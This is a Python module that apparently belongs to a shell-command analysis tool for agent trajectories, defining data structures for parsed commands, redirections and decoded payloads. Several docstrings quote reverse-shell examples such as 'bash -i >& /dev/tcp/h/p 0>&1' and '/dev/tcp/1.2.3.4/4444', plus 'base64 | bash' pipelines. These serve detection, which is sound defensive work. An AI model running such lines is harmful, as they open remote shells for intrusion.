"""What the shell parser produces: simple commands, their redirections and known data flows."""

from __future__ import annotations

from dataclasses import dataclass

from watchkeeper.trajectories._fast import fast_constructor

Span = tuple[int, int]


@dataclass(frozen=True, slots=True)
class Redirect:
    """One redirection of a simple command.

    Attributes:
        op: The operator: ``>``, ``>>``, ``>|``, ``<``, ``<>``, ``>&``, ``<&``, ``&>``, ``&>>``,
            ``<<``, ``<<-``, ``<<<``.
        target: The expanded target word (a path, an fd number for ``2>&1``, the here-string's
            value, or the here-doc delimiter).
        fd: The explicit file descriptor written before the operator (``2`` in ``2>&1``), or None.
        span: Where the redirection is in the original text.
        text: The redirection as written (``>& /dev/tcp/1.2.3.4/4444``), used in command lines.
    """

    op: str
    target: str
    fd: int | None
    span: Span
    text: str

    @property
    def writes(self) -> bool:
        """True when the target is opened for writing (``>``, ``>>``, ``&>``, ``<>``...)."""
        return self.op in _WRITE_OPS or (self.op == ">&" and not _is_fd(self.target))

    @property
    def reads(self) -> bool:
        """True when the target is a file opened for reading (``<`` or ``<>``)."""
        return self.op in ("<", "<>") or (self.op == "<&" and not _is_fd(self.target))


_WRITE_OPS = frozenset({">", ">>", ">|", "&>", "&>>", "<>"})


def _is_fd(word: str) -> bool:
    return word.isdigit() or word == "-" or (word[:-1].isdigit() and word.endswith("-"))


@dataclass(frozen=True, slots=True)
class Payload:
    """Data whose content is known statically: what a command reads on stdin or writes to stdout.

    Attributes:
        data: The bytes (capped at decode.MAX_DECODED).
        span: Where the data comes from in the original text (the encoded word, the here-doc).
        base: Offset in the original text where ``data`` lies verbatim (a here-doc body, a quoted
            word), or None when it was transformed (decoded, unescaped).
        source: What produced it first: "echo", "printf", "heredoc", "here-string", "$(...)".
        chain: The decoders applied, in order: ("base64",), ("base64", "gunzip")...
    """

    data: bytes
    span: Span
    base: int | None
    source: str
    chain: tuple[str, ...] = ()

    def text(self) -> str:
        """The data decoded as UTF-8 (undecodable bytes replaced)."""
        return self.data.decode("utf-8", "replace")

    def label(self, sink: str) -> str:
        """The ``via`` label for feeding this data into ``sink``: "base64 | bash", "heredoc | sh"."""
        head = " | ".join(self.chain) if self.chain else self.source
        return f"{head} | {sink}"


@dataclass(frozen=True, slots=True)
class SimpleCommand:
    """One simple command found in a shell script (or reached through nesting and decoding).

    Attributes:
        argv: The words after expansion, quotes removed; empty for a bare assignment or a bare
            redirection (``exec 3<>/dev/tcp/h/p``).
        span: (start, end) in the ORIGINAL text (offset by ``base``). Commands reached through a
            transformation (decoding, unescaping) point at the enclosing word.
        redirects: The redirections, in order.
        assignments: ``NAME=value`` prefixes (or the whole command when argv is empty).
        via: How the command was reached: () at top level, ("bash -c",), ("base64 | bash",),
            ("sudo",), ("$(...)",)...
        arg_spans: Span of each argv word in the original text (same length as argv).
        pipe_pos / pipe_len: Position in its pipeline and the pipeline's length (0 / 1 alone).
        pipe_prev / pipe_next: argv of the command it reads from / writes to, None when none.
        background: Ended by ``&``.
        heredoc: Body of a here-doc on this command, if any.
        stdin / stdout: Statically known data read on stdin / written to stdout, if any.
        parent: The command that started this one (``bash -c``, ``sudo``...); None when it runs
            directly under the shell that interprets the analysed text.
        interpreter: argv[0] of the shell interpreting the script this command is in; "" for the
            analysed text's own shell. That shell performs the redirections.
        user: The user it runs as when a wrapper says so (``sudo -u bob`` -> "bob"); "" unknown.
    """

    argv: tuple[str, ...]
    span: Span
    redirects: tuple[Redirect, ...] = ()
    assignments: tuple[tuple[str, str], ...] = ()
    via: tuple[str, ...] = ()
    arg_spans: tuple[Span, ...] = ()
    pipe_pos: int = 0
    pipe_len: int = 1
    pipe_prev: tuple[str, ...] | None = None
    pipe_next: tuple[str, ...] | None = None
    background: bool = False
    heredoc: str | None = None
    stdin: Payload | None = None
    stdout: Payload | None = None
    parent: SimpleCommand | None = None
    interpreter: str = ""
    user: str = ""

    @property
    def name(self) -> str:
        """The program's base name ("" for a bare assignment/redirection)."""
        if not self.argv:
            return ""
        prog = self.argv[0]
        return prog.rpartition("/")[2] if "/" in prog else prog

    def command_line(self) -> str:
        """argv joined with spaces, then the redirections as written: ``bash -i >& /dev/tcp/h/p 0>&1``."""
        line = " ".join(self.argv)
        if self.redirects:
            tail = " ".join(r.text for r in self.redirects)
            line = f"{line} {tail}" if line else tail
        return line


@dataclass(frozen=True, slots=True)
class ShellScript:
    """The result of parsing a script: its commands plus what the parser had to give up on.

    Attributes:
        commands: Every simple command, nested and decoded ones included, in execution order.
        truncated: Input beyond the size cap, or commands beyond the count cap, were not analysed.
        degraded: Broken syntax (unbalanced quotes, unterminated here-doc or substitution) or a
            depth cap was hit; what could be recovered is still in ``commands``.
        env: The variables with literal values known after the script (assignments, exports).
    """

    commands: tuple[SimpleCommand, ...]
    truncated: bool = False
    degraded: bool = False
    env: tuple[tuple[str, str], ...] = ()

    @property
    def compound(self) -> bool:
        """More than a list of plain commands: a pipeline, redirection, substitution, nesting or `&`."""
        for c in self.commands:
            if c.pipe_len != 1 or c.via or c.redirects or c.background:
                return True
        return False


new_command = fast_constructor(SimpleCommand)
"""Build a :class:`SimpleCommand` (keyword arguments only) without the frozen-init overhead."""
